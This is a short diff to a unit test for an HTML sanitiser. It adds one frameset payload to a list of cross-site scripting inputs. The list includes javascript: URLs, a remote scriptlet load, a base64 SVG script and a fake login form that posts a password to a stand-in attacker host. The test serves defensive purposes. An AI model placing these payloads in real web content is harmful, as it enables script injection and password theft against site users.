@@ -71,6 +71,7 @@ class HtmlSanitiserTest {
                 "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
                 "<iframe src=\"https://evil.example/\"></iframe>",
                 "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+                "<html><frameset><frame src=\"javascript:alert('XSS');\"></frameset></html>",
                 "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
                 "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\">",
                 "<form action=\"https://evil.example/\"><input type=\"password\" name=\"p\"><button>Log in</button></form>",
